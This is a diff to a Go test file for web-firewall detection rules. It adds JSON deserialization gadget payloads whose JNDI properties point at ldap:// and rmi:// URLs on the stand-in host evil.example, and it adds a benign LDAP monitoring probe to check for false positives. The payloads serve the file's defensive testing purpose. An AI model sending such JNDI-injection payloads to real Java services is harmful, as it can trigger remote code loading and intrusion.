@@ -68,7 +68,11 @@ var gadgetJSONAttacks = []string{
 	// other gadget classes' JNDI properties without their class
 	`{"@type":"com.zaxxer.hikari.HikariConfig","metr_icRegistry":"ldap://evil.example/x"}`, `{"x":{"health-Check_Regis-try":"rmi://evil.example/x"}}`,
 	`{"x":{"registryName":"ldap://evil.example/x"}}`, `{"x":{"transactionManagerName":"rmi://evil.example/x"}}`,
-	`{"x":{"userTransactionName":"ldap://evil.example/x"}}`, `{"x":{"resourceName":"ldap://evil.example/x"}}`, `{"x":{"asText":"ldap://evil.example/x"}}`,
+	`{"x":{"userTransactionName":"ldap://evil.example/x"}}`, `{"x":{"asText":"ldap://evil.example/x"}}`,
+	// attack 23's: more of the gadget classes' JNDI properties without
+	// their class
+	`{"x":{"topic-factory":"ldap://evil.example/x"}}`, `{"x":{"UserTransaction":"ldap://evil.example/x"}}`,
+	`{"x":{"shareableResources":["rmi://evil.example/x"]}}`, `{"x":{"dataSourceJNDI":"ldap://evil.example/x"}}`,
 }
 
 // javaSerialized is the start of a serialized commons-collections chain
@@ -156,6 +160,7 @@ func TestGadgetsBeyondTheCRS(t *testing.T) {
 		probe{name: "JSON a metrics registry", method: "POST", path: "/api/config", contentType: "application/json", body: `{"metricRegistry":"prometheus","healthCheckRegistry":"default"}`},
 		probe{name: "JSON an LDAP directory's settings in snake case", method: "POST", path: "/api/config", contentType: "application/json", body: `{"ldap_url":"ldap://ldap.corp.example:389","bind_dn":"cn=app,dc=corp","resource_type":"directory","registry":{"name":"ldap-main"}}`},
 		probe{name: "JSON a resource named by a java: name", method: "POST", path: "/api/config", contentType: "application/json", body: `{"resourceName":"java:comp/env/jdbc/orders","transactionManagerName":"java:appserver/TransactionManager"}`},
+		probe{name: "JSON a monitoring check of an LDAP server (attack 23)", method: "POST", path: "/api/checks", contentType: "application/json", body: `{"resourceName":"ldap://dc1.corp.example.com:389","status":"up"}`},
 		probe{name: "JSON driverClassName c3p0", method: "POST", path: "/api/config", contentType: "application/json", body: `{"driverClassName":"com.mchange.v2.c3p0.ComboPooledDataSource"}`})
 	runBeyondTheCRS(t, nil, misses, benign)
 }
